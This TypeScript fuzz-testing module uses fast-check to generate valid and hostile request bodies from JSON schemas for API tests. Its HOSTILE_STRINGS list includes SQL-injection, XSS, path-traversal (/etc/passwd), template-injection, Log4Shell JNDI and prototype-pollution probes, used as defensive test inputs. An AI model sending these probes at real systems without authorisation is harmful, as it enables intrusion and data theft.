import fc from 'fast-check';
import type { JsonSchema } from './openapiRoutes.ts';

/** Strings that have broken servers before: injection, traversal, odd Unicode, numbers in disguise. */
export const HOSTILE_STRINGS = [
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000',
  '\uFFFF',
  '\uD800',
  '\u202E',
  '𝕊𝔸𝕄 🙂',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally
  '${jndi:ldap://example.com/a}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x7fffffff',
  '99999999999999999999999',
  ' ',
  '',
  'a@b',
  '@@@',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  fc.integer({ min: 200, max: 5000 }).map((n) => 'x'.repeat(n)),
);

/** Any JSON-ish value of the wrong kind: strings, numbers at the edges, null, lists, objects. */
export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.constantFrom(0, -1, 1.5, 2 ** 53, -(2 ** 53), 1e308, -1e308, true, false, null),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
  fc.constant(Array.from({ length: 3000 }, (_, i) => i)),
);

function typeOf(schema: JsonSchema): string | undefined {
  return Array.isArray(schema.type) ? schema.type.find((t) => t !== 'null') : schema.type;
}

const BASE64 = '^[A-Za-z0-9+/]*={0,2}$';

function validString(schema: JsonSchema): fc.Arbitrary<string> {
  const min = schema.minLength ?? 0;
  const max = schema.maxLength ?? 60;
  const fits = (s: string) => s.length >= min && s.length <= max;
  if (schema.format === 'email') {
    return fc
      .tuple(fc.stringMatching(/^[a-z][a-z0-9]{0,10}$/), fc.constantFrom('example.com', 'example.org'))
      .map(([local, domain]) => `${local}@${domain}`)
      .filter(fits);
  }
  if (schema.format === 'date-time') {
    return fc
      .date({
        min: new Date('2000-01-01T00:00:00Z'),
        max: new Date('2099-12-31T00:00:00Z'),
        noInvalidDate: true,
      })
      .map((d) => d.toISOString());
  }
  if (schema.format === 'uuid') return fc.uuid();
  if (schema.pattern === BASE64) {
    // Whole base64 groups, so the length can be steered into the schema's bounds.
    const groups = {
      min: Math.ceil(min / 4),
      max: Math.max(Math.ceil(min / 4), Math.min(Math.floor(max / 4), 40)),
    };
    return fc
      .uint8Array({ minLength: groups.min * 3, maxLength: groups.max * 3 })
      .map((bytes) => Buffer.from(bytes.slice(0, bytes.length - (bytes.length % 3))).toString('base64'))
      .filter(fits);
  }
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern), { size: 'xsmall' }).filter(fits);
  return fc.string({ minLength: min, maxLength: Math.min(max, Math.max(min, 40)) });
}

/** Values the schema accepts (as far as a JSON schema can say: services still check meaning). */
export function validValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map(validValue));
  if (schema.allOf?.length === 1 && schema.allOf[0]) return validValue(schema.allOf[0]);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const base = validOfType(schema);
  return schema.nullable || (Array.isArray(schema.type) && schema.type.includes('null'))
    ? fc.option(base, { nil: null })
    : base;
}

function validOfType(schema: JsonSchema): fc.Arbitrary<unknown> {
  switch (typeOf(schema)) {
    case 'string':
      return validString(schema);
    case 'integer':
      return fc.integer({
        min: Math.max(schema.minimum ?? -1000, -(2 ** 31)),
        max: Math.min(schema.maximum ?? 1000, 2 ** 31),
      });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1000, max: schema.maximum ?? 1000, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(schema.items ? validValue(schema.items) : fc.jsonValue({ maxDepth: 1 }), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 3, Math.max(schema.minItems ?? 0, 3)),
      });
    case 'object': {
      const properties = schema.properties ?? {};
      const record: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [name, property] of Object.entries(properties)) record[name] = validValue(property);
      return fc.record(record, { requiredKeys: schema.required ?? [] });
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/**
 * Bodies that should be refused or handled: a valid body with one field broken, missing or extra,
 * any JSON at all, and valid bodies (so the fuzz also reaches the services behind the validation).
 */
export function hostileBody(schema: JsonSchema | undefined): fc.Arbitrary<unknown> {
  const anyJson = fc.jsonValue({ maxDepth: 3 });
  if (!schema) return fc.oneof(anyJson, fc.constant(undefined));
  const valid = validValue(schema);
  const names = Object.keys(schema.properties ?? {});
  if (typeOf(schema) !== 'object' || names.length === 0) return fc.oneof(valid, wrongValue, anyJson);
  const broken = fc
    .tuple(valid, fc.constantFrom(...names), wrongValue)
    .map(([body, name, value]) => ({ ...(body as object), [name]: value }));
  const missing = fc.tuple(valid, fc.constantFrom(...names)).map(([body, name]) => {
    const copy = { ...(body as Record<string, unknown>) };
    delete copy[name];
    return copy;
  });
  const extra = fc
    .tuple(valid, fc.string({ maxLength: 12 }), wrongValue)
    .map(([body, name, value]) => ({ ...(body as object), [name]: value }));
  return fc.oneof(
    { weight: 3, arbitrary: broken },
    { weight: 1, arbitrary: missing },
    { weight: 1, arbitrary: extra },
    { weight: 2, arbitrary: valid },
    { weight: 1, arbitrary: wrongValue },
  );
}
